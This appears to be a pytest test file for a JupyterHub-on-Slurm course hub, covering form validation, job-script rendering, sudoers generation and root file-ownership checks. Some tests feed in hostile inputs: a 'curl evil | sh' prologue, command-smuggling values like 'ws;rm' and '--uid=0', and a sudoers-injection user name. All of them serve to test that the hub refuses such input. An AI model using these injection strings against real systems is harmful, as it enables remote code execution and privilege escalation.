"""The room's hub without a hub: its settings, its spawn form's checks, the learner's job script and
the learner's copy of the course (dpcourse.cluster.hub). tests/test_hub.py runs the real thing."""
import os
import runpy
import shutil
import subprocess
import sys
from pathlib import Path

import jinja2
import pytest

from conftest import ROOT
from dpcourse.cluster import hub


@pytest.fixture
def room(tmp_path, monkeypatch):
    monkeypatch.setenv("DPCOURSE_HUB_STATE", str(tmp_path / "state"))
    return hub.Settings.from_env(course=ROOT, cpus=4, gpus=1, max_cpus=8, max_gpus=2,
                                 max_time="04:00:00", time="02:00:00", memory=16, max_memory=64)


def form(**values):
    base = {"account": "trn01", "partition": "gpu", "reservation": "ws", "time": "01:30:00",
            "cpus": "4", "gpus": "1"}
    return {k: [v] for k, v in {**base, **values}.items()}


def test_the_environment_overrides_the_file_and_numbers_stay_numbers(room, monkeypatch):
    monkeypatch.setenv("DPCOURSE_HUB_CPUS", "2")
    monkeypatch.setenv("DPCOURSE_HUB_ADMINS", "ana, ben")
    s = hub.Settings.from_env(course=ROOT, cpus=4)
    assert s.cpus == 2 and s.admins == ("ana", "ben") and s.course == ROOT.resolve()
    assert not s.state.exists(), "reading the settings makes nothing (the root check comes first)"
    assert oct(s.make_state().stat().st_mode & 0o777) == "0o700", "the hub's state: its user's"


def test_the_form_becomes_the_job_s_options(room):
    opts = room.options_from_form(form())
    assert opts == {"account": "trn01", "partition": "gpu", "reservation": "ws",
                    "time": "01:30:00", "cpus": "4", "gpus": "1", "memory": "16"}
    assert room.options_from_form(form(gpus="0"))["gpus"] == "0"
    assert "value=\"02:00:00\"" in room.options_form() and 'max="8"' in room.options_form()


@pytest.mark.parametrize("values, says", [
    ({"time": "3h"}, "write it as HH:MM:SS"),
    ({"time": "01:75:00"}, "write it as HH:MM:SS"),
    ({"time": "05:00:00"}, "at most 04:00:00"),
    ({"time": "00:00:00"}, "above 0"),
    ({"cpus": "lots"}, "whole numbers"),
    ({"memory": "16G"}, "whole numbers"),
    ({"memory": "65"}, "memory 1 to 64 GB"),
    ({"memory": "0"}, "memory 1 to 64 GB"),
    ({"cpus": "9"}, "CPUs 1 to 8"),
    ({"gpus": "-1"}, "GPUs 0 to 2"),
    ({"account": "trn01 --uid=0"}, "letters, digits"),
    ({"reservation": "ws;rm"}, "letters, digits"),
])
def test_a_wrong_form_value_is_refused_with_what_to_change(room, values, says):
    with pytest.raises(ValueError, match=says):
        room.options_from_form(form(**values))


def test_the_learner_s_job_script_passes_shellcheck(room, tmp_path):
    if not shutil.which("shellcheck"):
        pytest.skip("no shellcheck")
    for container in ("", "/shared/dpcourse.sif"):
        room.container = container
        script = jinja2.Template(hub.BATCH_SCRIPT).render(
            homedir="/home/ana", keepvars="JUPYTERHUB_API_TOKEN,USER,HOME",
            **room.checked({"account": "trn01", "partition": "gpu", "time": "01:00:00",
                            "cpus": "4", "gpus": "1"}),
            prologue=room.prologue(), cmd=f"{room.singleuser_wrapper()} jupyterhub-singleuser")
        assert "#SBATCH --gpus-per-node=1" in script and "--reservation" not in script
        assert f"#SBATCH --job-name={hub.JOB_NAME}" in script
        if container:  # the course (what the learner's copy is made from) bound at its own path
            run = f"apptainer exec --nv --bind {ROOT.resolve()} {container} "
            assert (f"{run}python -m dpcourse.cluster.hub prepare --course {ROOT.resolve()}"
                    in script)
            assert f"{run}batchspawner-singleuser jupyterhub-singleuser" in script
        assert "#SBATCH --mem=16G" in script and "#SBATCH --no-requeue" in script
        path = tmp_path / "job.sh"
        path.write_text(script)
        done = subprocess.run(["shellcheck", "--severity=style", str(path)], capture_output=True,
                              text=True, timeout=60)
        assert done.returncode == 0, done.stdout + script


def test_the_learner_s_copy_is_made_once_and_kept(tmp_path, monkeypatch):
    monkeypatch.delenv("DPCOURSE_DATA", raising=False)
    dest = hub.prepare(ROOT, tmp_path / "dpcourse")
    assert (dest / "notebooks" / "00_setup.ipynb").exists() and (dest / "labs").is_dir()
    assert (dest / ".venv").resolve() == (ROOT / ".venv").resolve()
    assert not (dest / "solutions").exists(), "the learner's copy holds no solutions"
    if (ROOT / ".venv" / ".installed-stamp").exists():  # make check there never installs
        plan = subprocess.run(["make", "-n", "check"], cwd=dest, capture_output=True, text=True,
                              timeout=60).stdout
        assert "pip install" not in plan and "dpcourse.kit.course check" in plan, plan
    (dest / "notebooks" / "00_setup.ipynb").write_text("my work")
    hub.prepare(ROOT, dest)
    assert (dest / "notebooks" / "00_setup.ipynb").read_text() == "my work"


def test_in_the_container_the_copy_uses_the_image_s_environment(tmp_path, monkeypatch):
    """A course without .venv (the servers run in the image): the copy's .venv is the image's
    (sys.prefix, /opt/venv there), marked set up, so `make check` there installs nothing."""
    course, image_venv = tmp_path / "course", tmp_path / "opt-venv"
    course.mkdir()
    image_venv.mkdir()
    for name in ("Makefile", "pyproject.toml", "README.md"):
        shutil.copy2(ROOT / name, course / name)
    (image_venv / ".installed-stamp").touch()
    monkeypatch.setattr(sys, "prefix", str(image_venv))
    monkeypatch.delenv("DPCOURSE_DATA", raising=False)
    dest = hub.prepare(course, tmp_path / "dpcourse")
    assert (dest / ".venv").resolve() == image_venv
    plan = subprocess.run(["make", "-n", "check"], cwd=dest, capture_output=True, text=True,
                          timeout=60).stdout
    assert "pip install" not in plan and "dpcourse.kit.course check" in plan, plan


def test_a_start_through_the_api_gets_the_form_s_checks_and_nothing_else(room):
    """batchspawner merges user_options into the job script's variables as they come: a learner
    calling the REST API could otherwise replace the prologue or the command, or skip the limits."""
    class Spawner:
        user_options = {"time": "01:00:00", "cpus": 2, "gpus": 1, "prologue": "curl evil | sh",
                        "cmd": "sleep 99999", "keepvars": "ALL"}

    spawner = Spawner()
    room.pre_spawn_hook(spawner)
    assert set(spawner.user_options) == set(hub.FIELDS) | {"memory"}
    assert spawner.user_options["cpus"] == "2"
    spawner.user_options = {"gpus": 4}
    with pytest.raises(ValueError, match="GPUs 0 to 2"):
        room.pre_spawn_hook(spawner)


ROOTCHECK = runpy.run_path(str(ROOT / "room" / "rootcheck.py"))


@pytest.mark.skipif(os.geteuid() != 0, reason="root's check: the files here must be root's")
def test_root_refuses_what_others_may_change(tmp_path):
    """room/rootcheck.py: every file under the trees, and what a link names, is root's alone."""
    first_unsafe = ROOTCHECK["first_unsafe"]
    tree = tmp_path / "course"
    (tree / "src" / "deep").mkdir(parents=True)
    (tree / "src" / "deep" / "hub.py").write_text("")
    os.chmod(tmp_path, 0o755)
    assert first_unsafe([tree]) is None
    (tree / "src" / "deep" / "hub.py").chmod(0o664)  # group-writable, deep inside
    assert first_unsafe([tree]).startswith(f"{tree}/src/deep/hub.py (owner uid 0, mode 664)")
    (tree / "src" / "deep" / "hub.py").chmod(0o644)
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "python").write_text("")
    os.chown(outside / "python", 65534, 65534)  # nobody's
    (tree / "python").symlink_to(outside / "python")  # the .venv's interpreter, say
    assert first_unsafe([tree]).startswith(f"{outside}/python (owner uid 65534")
    (tree / "python").unlink()
    shared = tmp_path / "shared"
    shared.mkdir(mode=0o775)
    shared.chmod(0o775)
    assert first_unsafe([shared / "config.py"]).startswith(f"{shared} (owner uid 0, mode 775)")
    sticky = tmp_path / "sticky"
    sticky.mkdir()
    sticky.chmod(0o1777)  # like /tmp: others may add files, but not replace root's
    (sticky / "x").write_text("")
    assert first_unsafe([sticky / "x"]) is None


def test_the_sudoers_rule_is_valid_and_refuses_odd_names():
    rule = hub.sudoers("dpcourse-hub", ["trn01"], which=lambda c: f"/opt/slurm/bin/{c}")
    submit, watch = [line for line in rule.splitlines() if line.startswith("dpcourse-hub ALL")]
    assert submit == ("dpcourse-hub ALL = (%trn01, !root) NOPASSWD: SETENV: "
                      "/opt/slurm/bin/sbatch --parsable")
    assert watch.startswith("dpcourse-hub ALL = (%trn01, !root) NOPASSWD: /opt/slurm/bin/squeue")
    assert "SETENV" not in watch, "sbatch alone keeps its variables"
    assert "_Alias" not in rule, "an alias name is sudo's first file's: a second room's would clash"
    if shutil.which("visudo"):
        done = subprocess.run(["visudo", "-cf", "-"], input=rule, text=True, capture_output=True)
        assert done.returncode == 0, done.stderr + rule
    for user, groups in (("dpcourse-hub ALL=(ALL) ALL #", ["trn01"]), ("hub", ["trn01, root"]),
                         ("hub", [])):
        with pytest.raises(ValueError):
            hub.sudoers(user, groups)


@pytest.mark.skipif(os.geteuid() != 0, reason="writes a stand-in into /etc/profile.d (root)")
def test_the_site_prologue_runs_in_a_login_environment(room, tmp_path):
    """`module` is a shell function that the site's /etc/profile.d defines: the job sources the
    login environment before the site's lines (sbatch --get-user-env works for root only)."""
    stand_in = Path(f"/etc/profile.d/zz-dpcourse-test-{os.getpid()}.sh")
    room.site_prologue = "module load apptainer"
    room.data = ""
    script = tmp_path / "job.sh"
    script.write_text(jinja2.Template(hub.BATCH_SCRIPT).render(
        homedir=str(tmp_path), keepvars="USER", **room.checked({}), prologue=room.prologue(),
        cmd="echo the server would start here"))
    env = {"HOME": str(tmp_path), "USER": "root", "PATH": "/usr/bin:/bin"}
    try:
        stand_in.write_text('module() { echo "module $*" >> "$HOME/module.log"; }\n')
        done = subprocess.run(["bash", str(script)], env=env, capture_output=True, text=True,
                              timeout=120)
        assert done.returncode == 0, done.stdout + done.stderr
        assert (tmp_path / "module.log").read_text() == "module load apptainer\n"
        assert "the server would start here" in done.stdout
        stand_in.unlink()
        done = subprocess.run(["bash", str(script)], env=env, capture_output=True, text=True,
                              timeout=120)
        assert done.returncode != 0 and "module: command not found" in done.stderr, done.stderr
    finally:
        stand_in.unlink(missing_ok=True)


def test_the_proxy_is_installed_from_a_lock_with_every_package_s_hash():
    """configurable-http-proxy runs beside the hub: make room-setup installs it with npm ci from
    room/proxy/package-lock.json (each package's version and sha512), running no install script."""
    import json

    lock = json.loads((ROOT / "room" / "proxy" / "package-lock.json").read_text())
    packages = {k: v for k, v in lock["packages"].items() if k}
    assert packages["node_modules/configurable-http-proxy"]["version"] == "4.6.3"
    unhashed = [k for k, v in packages.items() if not v.get("integrity", "").startswith("sha512-")]
    assert not unhashed, f"packages without a sha512 in the lock: {unhashed}"
    recipe = subprocess.run(["make", "-n", "room-setup"], cwd=ROOT, capture_output=True, text=True,
                            timeout=60).stdout
    assert "npm ci --prefix build/room --ignore-scripts" in recipe and "npm install" not in recipe


@pytest.mark.skipif(os.geteuid() != 0, reason="root's check: the files here must be root's")
def test_root_checks_the_proxy_it_would_run_from_path(tmp_path, monkeypatch):
    """Without make room-setup's proxy, the hub runs configurable-http-proxy from PATH: as root,
    that program and its package folder are checked too."""
    course = tmp_path / "course"
    course.mkdir()
    package = tmp_path / "lib" / "node_modules" / "configurable-http-proxy"
    (package / "bin").mkdir(parents=True)
    (package / "bin" / "configurable-http-proxy").write_text("#!/usr/bin/env node\n")
    (package / "bin" / "configurable-http-proxy").chmod(0o755)
    (package / "index.js").write_text("")
    (package / "index.js").chmod(0o666)  # what the proxy loads, writable by all
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "configurable-http-proxy").symlink_to(package / "bin" / "configurable-http-proxy")
    os.chmod(tmp_path, 0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}:{os.environ['PATH']}")
    trees = ROOTCHECK["hub_trees"](course, str(tmp_path / "state"))
    assert str(package) in trees
    found = ROOTCHECK["first_unsafe"](trees)
    assert found.startswith(f"{package}/index.js (owner uid 0, mode 666)"), found


def test_the_service_unit_runs_the_hub_as_its_user_with_the_guide_s_settings():
    """room/dpcourse-hub.service: the service user, the course's config, the settings from
    /etc/dpcourse-hub.env, sudo left able to run (no NoNewPrivileges); and every DPCOURSE_HUB_*
    the guide names is a setting of the room."""
    import configparser
    import dataclasses
    import re

    unit = configparser.ConfigParser(strict=False, interpolation=None)
    unit.optionxform = str
    unit.read_string((ROOT / "room" / "dpcourse-hub.service").read_text())
    service = unit["Service"]
    assert service["User"] == "dpcourse-hub"
    assert service["EnvironmentFile"] == "-/etc/dpcourse-hub.env"
    assert service["ExecStart"].endswith("jupyterhub -f /opt/dpcourse/room/jupyterhub_config.py")
    assert "NoNewPrivileges" not in service
    fields = {f.name.upper() for f in dataclasses.fields(hub.Settings)}
    guide = (ROOT / "docs" / "instructor.md").read_text()
    named = set(re.findall(r"DPCOURSE_HUB_([A-Z_]+)", guide)) - {"", "NAME"}
    assert named and named <= fields, f"not settings: {sorted(named - fields)}"
    s = hub.Settings.from_env(course=ROOT, allowed_groups="trn01,instructors", admins="ana")
    assert s.allowed_groups == ("trn01", "instructors") and s.admins == ("ana",)
